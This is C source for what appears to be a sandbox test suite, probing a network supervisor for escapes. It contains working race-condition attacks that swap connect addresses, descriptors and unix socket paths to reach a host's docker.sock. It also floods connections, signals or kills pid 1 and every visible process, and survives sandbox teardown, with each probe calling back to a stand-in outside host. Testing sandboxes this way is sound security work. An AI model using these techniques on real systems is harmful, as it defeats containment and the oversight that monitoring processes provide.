/* Against the supervisor: what it reads may change under its eyes, it may be flooded, and it may be shot at. */
#include "probe.h"

#define OUTSIDE "198.51.100.7"
#define FOR_MS 700

static volatile int stop;
static struct sockaddr_in shared, inner, outer;
static volatile int shared_fd;

/* A listener in here, which connect may reach. */
static int listen_inside(void) {
    socklen_t length = sizeof inner;
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    inner = inet4("127.0.0.1", 0);
    bind(fd, (void *)&inner, sizeof inner);
    listen(fd, 4096);
    getsockname(fd, (void *)&inner, &length);
    outer = inet4(OUTSIDE, number("port"));
    return fd;
}

static void *flip_address(void *unused) {
    (void)unused;
    while (!stop) {
        shared = inner;
        __asm__ volatile("" ::: "memory");
        shared = outer;
        __asm__ volatile("" ::: "memory");
    }
    return NULL;
}

static void *accept_inside(void *argument) {
    int fd = *(int *)argument;
    while (!stop) {
        int peer = accept(fd, NULL, NULL);
        if (peer >= 0) close(peer);
    }
    return NULL;
}

static void speak(int fd) {
    struct pollfd ready = {fd, POLLOUT, 0};
    poll(&ready, 1, 100);
    send(fd, mark(), strlen(mark()), MSG_NOSIGNAL | MSG_DONTWAIT);
}

/* One thread changes the address while another connects with it. */
static void race_address(void) {
    static int listener;
    pthread_t flipper, accepter;
    listener = listen_inside();
    pthread_create(&accepter, NULL, accept_inside, &listener);
    pthread_create(&flipper, NULL, flip_address, NULL);
    for (long until = now_ms() + FOR_MS; now_ms() < until;) {
        int fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
        connect(fd, (void *)&shared, sizeof shared);
        speak(fd);
        close(fd);
    }
    stop = 1;
}

/* One thread changes what the descriptor means: two sockets take turns under one number. */
static void *flip_descriptor(void *unused) {
    (void)unused;
    while (!stop) {
        int net = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0), local = socket(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK, 0);
        dup2(local, shared_fd);
        dup2(net, shared_fd);
        close(net);
        close(local);
    }
    return NULL;
}
static void race_descriptor(void) {
    pthread_t flipper;
    listen_inside();
    shared_fd = socket(AF_INET, SOCK_STREAM, 0);
    pthread_create(&flipper, NULL, flip_descriptor, NULL);
    for (long until = now_ms() + FOR_MS; now_ms() < until;) {
        connect(shared_fd, (void *)&outer, sizeof outer);
        speak(shared_fd);
    }
    stop = 1;
    if (unsandboxed()) say_tcp(OUTSIDE, number("port"));
}

/* An address of a family that is harmless, until it is read the second time. */
static struct sockaddr_storage family;
static void *flip_family(void *unused) {
    (void)unused;
    while (!stop) {
        ((struct sockaddr *)&family)->sa_family = AF_UNIX;
        __asm__ volatile("" ::: "memory");
        memcpy(&family, &outer, sizeof outer);
        __asm__ volatile("" ::: "memory");
    }
    return NULL;
}
static void race_family(void) {
    pthread_t flipper;
    listen_inside();
    pthread_create(&flipper, NULL, flip_family, NULL);
    for (long until = now_ms() + FOR_MS; now_ms() < until;) {
        int fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
        connect(fd, (void *)&family, sizeof outer);
        speak(fd);
        close(fd);
    }
    stop = 1;
}

/* A unix socket path that names ours and the host's by turns. */
static struct sockaddr_un path_shared, path_inner, path_outer;
static void *flip_path(void *unused) {
    (void)unused;
    while (!stop) {
        path_shared = path_inner;
        __asm__ volatile("" ::: "memory");
        path_shared = path_outer;
        __asm__ volatile("" ::: "memory");
    }
    return NULL;
}
static void race_unix(void) {
    pthread_t flipper;
    int listener = socket(AF_UNIX, SOCK_STREAM, 0);
    path_inner.sun_family = path_outer.sun_family = AF_UNIX;
    snprintf(path_inner.sun_path, sizeof path_inner.sun_path, "%s/mine.sock", arg("work"));
    snprintf(path_outer.sun_path, sizeof path_outer.sun_path, "%s/docker.sock", arg("home"));
    unlink(path_inner.sun_path);
    bind(listener, (void *)&path_inner, sizeof path_inner);
    listen(listener, 4096);
    pthread_create(&flipper, NULL, flip_path, NULL);
    for (long until = now_ms() + FOR_MS; now_ms() < until;) {
        int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK, 0);
        connect(fd, (void *)&path_shared, sizeof path_shared);
        speak(fd);
        close(fd);
    }
    stop = 1;
}

static void *storm(void *unused) {
    (void)unused;
    for (int at = 0; at < 200; at++) {
        struct sockaddr_in to = inet4(OUTSIDE, 1 + at);
        int fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
        connect(fd, (void *)&to, sizeof to);
        close(fd);
    }
    return NULL;
}

/* Thousands of connects at once, and one more among them. */
static void flood(void) {
    pthread_t threads[48];
    for (int at = 0; at < 48; at++) pthread_create(&threads[at], NULL, storm, NULL);
    for (int at = 0; at < 20; at++) say_tcp(OUTSIDE, number("port"));
    for (int at = 0; at < 48; at++) pthread_join(threads[at], NULL);
    say_tcp(OUTSIDE, number("port"));
}

/* Callers that die while they are being answered. */
static void flood_and_die(void) {
    for (int at = 0; at < 300; at++) {
        pid_t child = fork();
        if (!child) {
            pthread_t thread;
            pthread_create(&thread, NULL, storm, NULL);
            usleep(at * 7 % 900);
            _exit(0);
        }
        if (at % 16 == 15)
            while (waitpid(-1, NULL, WNOHANG) > 0) {}
    }
    say_tcp(OUTSIDE, number("port"));
}

static void shoot(const char *directory, int pid) {
    (void)directory;
    for (int signal = 1; signal < 32; signal++)
        if (pid != getpid() && pid != getppid()) kill(pid, signal);
}

/* Everything that can be seen is killed, then tried: is anybody still watching? */
static void kill_watchers(void) {
    if (!unsandboxed()) {
        each_process(shoot);
        for (int signal = 1; signal < 32; signal++) kill(1, signal);
        for (int tid = 1; tid < 5000; tid++)
            if (tid != getpid()) syscall(SYS_tkill, tid, SIGKILL);
        kill(0, SIGCONT);
    }
    say_tcp(OUTSIDE, number("port"));
}
static void stop_watchers(void) {
    if (!unsandboxed()) {
        kill(1, SIGSTOP);
        kill(getppid(), SIGSTOP);
    }
    say_tcp(OUTSIDE, number("port"));
}
/* Runs on after the first process of the sandbox was told that all is over. */
static void outlive(void) {
    if (fork()) return;
    setsid();
    if (fork()) _exit(0);
    poll(NULL, 0, 700);
    say_tcp(OUTSIDE, number("port"));
}

const struct attack sup_attacks[] = {
    {"sup.race_address", race_address},
    {"sup.race_descriptor", race_descriptor},
    {"sup.race_family", race_family},
    {"sup.race_unix", race_unix},
    {"sup.flood", flood},
    {"sup.flood_and_die", flood_and_die},
    {"sup.kill_watchers", kill_watchers},
    {"sup.stop_watchers", stop_watchers},
    {"sup.outlive", outlive},
    {0},
};
